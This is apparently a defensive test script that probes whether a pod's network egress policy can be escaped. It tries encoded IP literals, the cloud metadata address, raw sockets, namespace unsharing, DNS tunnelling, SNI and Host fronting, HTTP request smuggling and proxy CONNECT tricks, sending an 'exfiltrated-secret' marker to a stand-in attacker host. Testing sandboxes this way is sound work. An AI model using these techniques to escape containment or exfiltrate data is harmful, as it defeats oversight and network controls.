"""Attempts to get out of a pod, run inside it: one line of JSON per attempt, {name, through, reason}.

`python3 egress_probes.py [NAME ...]`, standard library only. An attempt is "through" when a byte came back from where
the policy does not let it go, or a thing that it needs was granted. What reached the outside is for the test to see.
The policy lists allowed.test:443, allowed.test:80, other.test:22 and names that answer with addresses of the inside.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable

EVIL = "93.184.216.66"
MARK = b"exfiltrated-secret"
PROBES: dict[str, Callable[[], str]] = {}


class Through(Exception):
    """The attempt worked."""


def probe(make: Callable[[], str]) -> Callable[[], str]:
    PROBES[make.__name__] = make
    return make


def tcp(host: str, port: int, send: bytes = MARK + b"\n", family: int = 0) -> str:
    """Connect, send, read: any byte of an answer is a way out."""
    found = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(found[0], socket.SOCK_STREAM) as sock:
        sock.settimeout(4)
        sock.connect(found[4])
        sock.sendall(send)
        data = sock.recv(4096)
    return said(data)


def said(data: bytes) -> str:
    if not data:
        return "closed"
    if data[:1] == b"\x15":
        return f"TLS alert {data[6] if len(data) > 6 else '?'}"
    if data.startswith(b"HTTP/1.1 4") or data.startswith(b"HTTP/1.1 5"):
        return data.split(b"\r\n", 1)[0].decode() + " " + data.rpartition(b"\r\n\r\n")[2].decode("latin-1")[:160]
    raise Through(repr(data[:80]))


def udp(host: str, port: int, data: bytes = MARK, family: int = socket.AF_INET) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect((host, port))
        sock.send(data)
        raise Through(repr(sock.recv(2000)[:60]))


def hello(name: str | None) -> bytes:
    """The bytes of a real ClientHello."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    made = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        made.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def extended(raw: bytes, kind: int, body: bytes) -> bytes:
    """A ClientHello with one more extension."""
    record, rest = raw[:5], raw[5:]
    message = rest[4:]
    at = 34 + 1 + message[34]
    at += 2 + struct.unpack("!H", message[at : at + 2])[0]
    at += 1 + message[at]
    size = struct.unpack("!H", message[at : at + 2])[0]
    more = struct.pack("!HH", kind, len(body)) + body
    message = message[:at] + struct.pack("!H", size + len(more)) + message[at + 2 :] + more
    message = b"\x01" + len(message).to_bytes(3, "big") + message
    return record[:3] + struct.pack("!H", len(message)) + message


def tls(name: str | None, to: str = "allowed.test") -> str:
    return tcp(to, 443, hello(name))


def http(to: str, *lines: str, body: str = "") -> str:
    return tcp(to, 80, ("\r\n".join(lines) + "\r\n\r\n" + body).encode())


def proxied(*lines: str, then: bytes = b"") -> str:
    with socket.create_connection(("127.0.0.1", 3128), 4) as sock:
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        data = sock.recv(4096)
        if data.startswith(b"HTTP/1.1 200 Connection established") and then:
            sock.sendall(then)
            data = sock.recv(4096)
        return said(data)


def query(name: str, kind: int = 1, server: str = "127.0.0.1") -> str:
    """Ask a resolver; an answer record is a way out."""
    packed = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    message = struct.pack("!6H", 0x1234, 0x100, 1, 0, 0, 0) + packed + struct.pack("!2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((server, 53))
        sock.send(message)
        answer = sock.recv(4096)
    code, answers = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    if answers:
        raise Through(f"{answers} answers")
    return f"rcode {code}, no answer"


# --- addresses ---


@probe
def literal() -> str:
    return tcp(EVIL, 443, hello("evil.test"))


@probe
def literal_port_80() -> str:
    return tcp(EVIL, 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")


@probe
def literal_raw() -> str:
    return tcp(EVIL, 9999)


@probe
def literal_of_an_allowed_name() -> str:
    return tcp("93.184.216.34", 443, hello("allowed.test"))


@probe
def literal_decimal() -> str:
    return tcp(str(struct.unpack("!I", socket.inet_aton(EVIL))[0]), 80)


@probe
def literal_hex() -> str:
    return tcp("0x5db8d842", 80)


@probe
def literal_octal() -> str:
    return tcp("0135.0270.0330.0102", 80)


@probe
def literal_short() -> str:
    return tcp("93.12113986", 80)


@probe
def literal_trailing_dot() -> str:
    return tcp(EVIL + ".", 80)


@probe
def literal_mapped() -> str:
    return tcp("::ffff:" + EVIL, 80, family=socket.AF_INET6)


@probe
def literal_nat64() -> str:
    return tcp("64:ff9b::" + EVIL, 80, family=socket.AF_INET6)


@probe
def literal_v6() -> str:
    return tcp("2606:2800:220:1::66", 443, family=socket.AF_INET6)


@probe
def metadata() -> str:
    return tcp("169.254.169.254", 80, b"GET / HTTP/1.1\r\nHost: m\r\n\r\n")


@probe
def private_address() -> str:
    return tcp("10.9.9.9", 80, b"GET / HTTP/1.1\r\nHost: p\r\n\r\n")


@probe
def hosts_loopback() -> str:
    return tcp("127.0.0.1", 9999)


@probe
def hosts_loopback_other() -> str:
    return tcp("127.1.2.3", 9999)


@probe
def any_address() -> str:
    return tcp("0.0.0.0", 9999)


@probe
def unlisted_port_of_an_allowed_name() -> str:
    return tcp("allowed.test", 9999)


@probe
def fast_open() -> str:
    with socket.socket() as sock:
        sock.settimeout(4)
        sock.sendto(MARK, 0x20000000, (EVIL, 9999))
        return said(sock.recv(100))


@probe
def transparent_listener_directly() -> str:
    return tcp("127.0.0.1", 3129, hello("evil.test"))


# --- datagrams and other protocols ---


@probe
def udp_dns() -> str:
    return udp("8.8.8.8", 53)


@probe
def udp_quic() -> str:
    return udp(EVIL, 443)


@probe
def udp_other() -> str:
    return udp(EVIL, 9999)


@probe
def udp_to_a_synthetic_address() -> str:
    return udp(socket.gethostbyname("allowed.test"), 443)


@probe
def udp_v6() -> str:
    return udp("2606:2800:220:1::66", 443, family=socket.AF_INET6)


@probe
def udp_broadcast() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.settimeout(1)
        sock.sendto(MARK, ("255.255.255.255", 9999))
        raise Through(repr(sock.recv(100)))


@probe
def udp_multicast() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(MARK, ("239.1.2.3", 9999))
        raise Through(repr(sock.recv(100)))


def opened(family: int, kind: int, protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol):
        raise Through("the socket was made")


@probe
def icmp_ping() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(1)
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0" + MARK, (EVIL, 0))
        raise Through(repr(sock.recv(100)))


@probe
def icmp_raw() -> str:
    return opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@probe
def raw_ip() -> str:
    return opened(socket.AF_INET, socket.SOCK_RAW, 255)


@probe
def packet_socket() -> str:
    return opened(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)


@probe
def vsock() -> str:
    return opened(socket.AF_VSOCK, socket.SOCK_STREAM)


@probe
def netlink() -> str:
    return opened(socket.AF_NETLINK, socket.SOCK_RAW, 0)


@probe
def sctp() -> str:
    return opened(socket.AF_INET, socket.SOCK_STREAM, 132)


@probe
def io_uring() -> str:
    found = ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(256))
    if found >= 0:
        raise Through("io_uring_setup")
    return os.strerror(ctypes.get_errno())


@probe
def namespaces() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000) == 0:
        raise Through("a user and network namespace of its own")
    return os.strerror(ctypes.get_errno())


@probe
def bind_the_resolvers_port() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("127.0.0.1", 53))
        raise Through("bound")


@probe
def mark_packets() -> str:
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 1)
        raise Through("SO_MARK")


@probe
def write_sysctl() -> str:
    with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
        file.write("1")
    raise Through("written")


@probe
def abstract_socket_of_the_host() -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0nucleus-test-outside")
        raise Through("connected")


@probe
def path_socket_of_the_host() -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(os.environ.get("OUTSIDE_SOCKET", "/tmp/nucleus-test-outside.sock"))
        raise Through("connected")


# --- names ---


@probe
def dns_unlisted() -> str:
    return query("evil.test")


@probe
def dns_tunnel_by_labels() -> str:
    return query("6578666c.allowed.test")


@probe
def dns_txt() -> str:
    return query("allowed.test", 16)


@probe
def dns_any() -> str:
    return query("allowed.test", 255)


@probe
def dns_null() -> str:
    return query("allowed.test", 10)


@probe
def dns_another_resolver() -> str:
    return query("allowed.test", 1, "8.8.8.8")


@probe
def dns_over_tcp_elsewhere() -> str:
    return tcp("8.8.8.8", 53, b"\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x04test\0\0\x01\0\x01")


@probe
def dns_over_tls() -> str:
    return tcp(EVIL, 853, hello("evil.test"))


@probe
def private_name() -> str:
    return http("private.test", "GET / HTTP/1.1", "Host: private.test")


@probe
def metadata_name() -> str:
    return http("meta.test", "GET / HTTP/1.1", "Host: meta.test")


@probe
def loopback_name() -> str:
    return http("loop.test", "GET / HTTP/1.1", "Host: loop.test")


@probe
def mixed_name() -> str:
    return http("mixed.test", "GET / HTTP/1.1", "Host: mixed.test")


# --- fronting, in TLS ---


@probe
def sni_of_another() -> str:
    return tls("evil.test")


@probe
def sni_missing() -> str:
    return tls(None)


@probe
def sni_literal() -> str:
    return tls(EVIL)


@probe
def sni_fragmented_records() -> str:
    raw = hello("evil.test")
    body = raw[5:]
    parts = [body[at : at + 20] for at in range(0, len(body), 20)]
    return tcp("allowed.test", 443, b"".join(raw[:3] + struct.pack("!H", len(part)) + part for part in parts))


@probe
def sni_twice() -> str:
    name = b"evil.test"
    entry = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    return tcp("allowed.test", 443, extended(hello("allowed.test"), 0, entry))


@probe
def encrypted_client_hello() -> str:
    return tcp("allowed.test", 443, extended(hello("allowed.test"), 0xFE0D, b"\0" * 64))


@probe
def plain_http_on_the_tls_port() -> str:
    return tcp("allowed.test", 443, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")


@probe
def tls_on_the_http_port() -> str:
    return tcp("allowed.test", 80, hello("evil.test"))


@probe
def hidden_in_an_sslv2_hello() -> str:
    return tcp("allowed.test", 443, b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + bytes(40))


# --- fronting, in HTTP ---


@probe
def host_of_another() -> str:
    return http("allowed.test", "GET / HTTP/1.1", "Host: evil.test")


@probe
def host_missing() -> str:
    return http("allowed.test", "GET / HTTP/1.1", "Accept: */*")


@probe
def host_twice() -> str:
    return http("allowed.test", "GET / HTTP/1.1", "Host: allowed.test", "Host: evil.test")


@probe
def absolute_uri_of_another() -> str:
    return http("allowed.test", "GET http://evil.test/ HTTP/1.1", "Host: evil.test")


@probe
def user_in_the_uri() -> str:
    return http("allowed.test", "GET http://allowed.test@evil.test/ HTTP/1.1", "Host: allowed.test")


@probe
def second_request_to_another() -> str:
    first = b"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    with socket.create_connection(("allowed.test", 80), 4) as sock:
        sock.sendall(first)
        data = sock.recv(4096)
        if not data.startswith(b"HTTP/1.1 200"):
            return "the first was refused: " + said(data)
        while not data.endswith(b"\n\n") and b"/first\n" not in data:
            data += sock.recv(4096)
        sock.sendall(b"GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        return said(sock.recv(4096))


@probe
def smuggled_request() -> str:
    inner = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    return http(
        "allowed.test", "POST / HTTP/1.1", "Host: allowed.test", f"Content-Length: {len(inner)}",
        "Transfer-Encoding: chunked", body=inner,
    )  # fmt: skip


@probe
def http2_without_asking() -> str:
    return tcp("allowed.test", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0")


@probe
def upgrade() -> str:
    return http(
        "allowed.test", "GET / HTTP/1.1", "Host: allowed.test", "Connection: Upgrade", "Upgrade: websocket",
        "Sec-WebSocket-Key: dGVzdA==", "Sec-WebSocket-Version: 13",
    )  # fmt: skip


@probe
def connect_method_inside() -> str:
    return http("allowed.test", "CONNECT evil.test:443 HTTP/1.1", "Host: evil.test:443")


# --- the proxy's port ---


@probe
def proxy_connect_another() -> str:
    return proxied("CONNECT evil.test:443 HTTP/1.1", "Host: evil.test:443", then=hello("evil.test"))


@probe
def proxy_connect_literal() -> str:
    return proxied(f"CONNECT {EVIL}:443 HTTP/1.1", "Host: x", then=hello("evil.test"))


@probe
def proxy_connect_decimal() -> str:
    return proxied("CONNECT 1572395074:443 HTTP/1.1", "Host: x", then=hello("evil.test"))


@probe
def proxy_connect_metadata() -> str:
    return proxied("CONNECT 169.254.169.254:80 HTTP/1.1", "Host: x", then=b"GET / HTTP/1.0\r\n\r\n")


@probe
def proxy_connect_loopback() -> str:
    return proxied("CONNECT 127.0.0.1:9999 HTTP/1.1", "Host: x", then=MARK)


@probe
def proxy_connect_unlisted_port() -> str:
    return proxied("CONNECT allowed.test:9999 HTTP/1.1", "Host: x", then=MARK)


@probe
def proxy_connect_then_front() -> str:
    return proxied("CONNECT allowed.test:443 HTTP/1.1", "Host: allowed.test", then=hello("evil.test"))


@probe
def proxy_get_another() -> str:
    return proxied("GET http://evil.test/ HTTP/1.1", "Host: evil.test")


@probe
def proxy_get_with_another_host() -> str:
    return proxied("GET http://allowed.test/ HTTP/1.1", "Host: evil.test")


@probe
def proxy_get_user_in_the_uri() -> str:
    return proxied("GET http://allowed.test@evil.test/ HTTP/1.1", "Host: evil.test")


def curl(*arguments: str) -> str:
    done = subprocess.run(
        ["curl", "-s", "-S", "-m", "5", "-o", "-", "-w", "\n%{http_code}", *arguments], capture_output=True, text=True
    )
    code = done.stdout.rpartition("\n")[2]
    if code.startswith("2"):
        raise Through(done.stdout[:80])
    return f"curl {done.returncode}, HTTP {code}: {done.stderr.strip()[:80] or done.stdout[:120]}"


@probe
def redirect_to_metadata() -> str:
    return curl("-L", "http://allowed.test/redirect?to=http://169.254.169.254/latest")


@probe
def redirect_to_another() -> str:
    return curl("-L", "http://allowed.test/redirect?to=http://evil.test/stolen")


@probe
def redirect_to_the_proxys_loopback() -> str:
    return curl("-L", "-x", "http://127.0.0.1:3128", "http://allowed.test/redirect?to=http://127.0.0.1:9999/")


@probe
def curl_resolve_override() -> str:
    return curl("-k", "--resolve", f"allowed.test:443:{EVIL}", "https://allowed.test/")


@probe
def curl_connect_to() -> str:
    return curl("-k", "--connect-to", "allowed.test:443:evil.test:443", "https://allowed.test/")


def main(names: list[str]) -> None:
    for name, make in PROBES.items():
        if names and name not in names:
            continue
        try:
            through, reason = False, make()
        except Through as error:
            through, reason = True, str(error)
        except Exception as error:
            through, reason = False, f"{type(error).__name__}: {error}"
        print(json.dumps({"name": name, "through": through, "reason": reason[:240]}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
